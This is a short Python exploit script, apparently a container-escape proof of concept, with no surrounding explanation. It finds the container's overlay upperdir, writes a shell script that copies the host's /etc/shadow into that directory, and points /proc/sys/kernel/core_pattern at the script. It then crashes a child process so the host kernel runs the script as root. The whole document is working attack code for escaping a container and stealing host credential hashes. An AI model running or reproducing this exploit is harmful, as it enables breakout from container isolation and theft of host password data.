# technique: core_pattern escape: write a pipe handler into /proc/sys/kernel/core_pattern pointing at a script in the container's overlay upperdir, then crash a process
import os,re,signal
u=re.search(r"upperdir=([^,]+)",open("/proc/self/mountinfo").read()).group(1)
open("/x.sh","w").write("#!/bin/sh\ncp /etc/shadow %s/shadow.host\n"%u);os.chmod("/x.sh",0o777)
open("/proc/sys/kernel/core_pattern","w").write("|%s/x.sh"%u)
import resource;resource.setrlimit(resource.RLIMIT_CORE,(-1,-1))
if os.fork()==0:os.kill(os.getpid(),signal.SIGSEGV)
